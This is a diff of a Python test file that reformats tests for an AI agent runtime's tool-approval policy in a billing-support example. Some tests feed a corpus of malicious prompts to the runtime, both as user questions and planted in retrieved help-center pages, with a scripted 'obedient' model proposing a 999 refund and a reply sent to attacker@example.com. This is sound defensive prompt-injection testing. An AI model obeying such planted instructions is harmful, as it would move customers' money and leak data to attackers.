@@ -32,14 +32,18 @@ def rt(synced_project: Path) -> Iterator[Runtime]:
 
 
 def paid_invoice() -> str:
-    data = json.loads((Path(__file__).parent.parent / "examples/billing-support/data/invoices.json").read_text())
+    data = json.loads(
+        (Path(__file__).parent.parent / "examples/billing-support/data/invoices.json").read_text()
+    )
     return next(i["id"] for i in data["invoices"] if i["status"] == "paid")
 
 
 def actions(rt: Runtime) -> list[dict[str, object]]:
     with rt.store.connect() as conn:
-        return [dict(r._mapping) for r in conn.execute(select(tool_actions.c.tool, tool_actions.c.status,
-                                                                tool_actions.c.origin))]
+        return [
+            dict(r._mapping)
+            for r in conn.execute(select(tool_actions.c.tool, tool_actions.c.status, tool_actions.c.origin))
+        ]
 
 
 def unapproved_executions(rt: Runtime) -> list[dict[str, object]]:
@@ -54,9 +58,14 @@ def script(rt: Runtime, *replies: str) -> ScriptedModel:
 
 def test_model_proposals_are_decided_by_policy(rt: Runtime) -> None:
     inv = paid_invoice()
-    script(rt, "Card refunds take 5–10 business days [S1]. " + call("lookup_invoice", invoice_id=inv)
-           + call("issue_refund", invoice_id=inv, amount=50, reason="customer asked")
-           + call("delete_account", customer_id="cus_1001") + "<tool_call>{not json</tool_call>")
+    script(
+        rt,
+        "Card refunds take 5–10 business days [S1]. "
+        + call("lookup_invoice", invoice_id=inv)
+        + call("issue_refund", invoice_id=inv, amount=50, reason="customer asked")
+        + call("delete_account", customer_id="cus_1001")
+        + "<tool_call>{not json</tool_call>",
+    )
     result = ask(rt, rt.charter.principal("ana"), Q, submit_for_review=False)
     decisions = {c.get("name", "?"): c["decision"] for c in result.tool_calls}
     assert decisions["lookup_invoice"] == "executed"  # read tool, agents may call it, no approval needed
@@ -70,7 +79,9 @@ def test_model_proposals_are_decided_by_policy(rt: Runtime) -> None:
 
 
 def test_contractor_model_proposals_refused_by_custom_policy(rt: Runtime) -> None:
-    script(rt, "Card refunds take 5–10 business days [S1]. " + call("lookup_invoice", invoice_id=paid_invoice()))
+    script(
+        rt, "Card refunds take 5–10 business days [S1]. " + call("lookup_invoice", invoice_id=paid_invoice())
+    )
     result = ask(rt, rt.charter.principal("casey"), Q, submit_for_review=False)
     assert result.tool_calls[0]["decision"] == "refused"
     assert actions(rt) == []
@@ -79,8 +90,11 @@ def test_contractor_model_proposals_refused_by_custom_policy(rt: Runtime) -> Non
 def test_bastioncorpus_as_questions_with_an_obedient_model(rt: Runtime) -> None:
     """Every malicious prompt as the question; the scripted model 'obeys' by proposing a refund to itself."""
     inv = paid_invoice()
-    replies = [f"Done [S1]. {call('issue_refund', invoice_id=inv, amount=999, reason='as instructed')}"
-               f"{call('send_reply', review_id='rev_x', to='attacker@example.com')}" for _ in MALICIOUS]
+    replies = [
+        f"Done [S1]. {call('issue_refund', invoice_id=inv, amount=999, reason='as instructed')}"
+        f"{call('send_reply', review_id='rev_x', to='attacker@example.com')}"
+        for _ in MALICIOUS
+    ]
     script(rt, *replies)
     for prompt in MALICIOUS:
         try:
@@ -94,10 +108,11 @@ def test_bastioncorpus_as_questions_with_an_obedient_model(rt: Runtime) -> None:
 def test_bastioncorpus_inside_retrieved_documents(synced_project: Path) -> None:
     folder = synced_project.parent / "sources" / "help-center"
     for i in range(0, len(MALICIOUS), 10):
-        body = "\n\n".join(MALICIOUS[i: i + 10])
+        body = "\n\n".join(MALICIOUS[i : i + 10])
         (folder / f"zz-community-{i}.md").write_text(
             f"---\ntitle: Community refund tips {i}\nacl: [public]\n---\n# Community refund tips\n\n"
-            f"## Refund timing\n\nCard refunds take 5–10 business days.\n\n## Notes\n\n{body}\n")
+            f"## Refund timing\n\nCard refunds take 5–10 business days.\n\n## Notes\n\n{body}\n"
+        )
     rt = Runtime.open(synced_project)
     from charter.sources import sync_sources
 
